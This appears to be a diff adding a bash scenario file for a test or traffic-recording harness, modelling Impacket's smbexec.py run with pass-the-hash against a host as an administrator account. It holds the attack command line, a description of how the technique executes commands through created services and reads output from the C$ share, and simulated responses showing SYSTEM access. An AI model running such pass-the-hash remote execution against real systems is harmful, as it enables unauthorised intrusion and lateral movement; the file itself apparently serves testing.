@@ -1,0 +1,18 @@
+# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record
+title="Impacket's smbexec.py by Pass-the-Hash"
+about="No executable is copied: each command becomes the image path of a service that is created, started (which
+Windows gives up on with error 1053, the command having run) and deleted. The output is fetched from a file on
+C\$ and deleted there. The shell first asks for the current folder, then runs what is typed."
+dialect=3.0
+account='FS1\admin'
+
+run() {
+  typed_lines=$'whoami\nexit' impacket smbexec.py -hashes ":$nt_hash_admin" "FS1/admin@$server_ip"
+  connected 'IPC$' 'C$'
+  printf 'C:\\Windows\\system32\r\n' >"$(client_file folder)"
+  printf 'nt authority\\system\r\n' >"$(client_file whoami)"
+  fetched 'C$' __output folder
+  fetched 'C$' __output whoami
+  deleted 'C$' __output
+  deleted 'C$' __output
+}
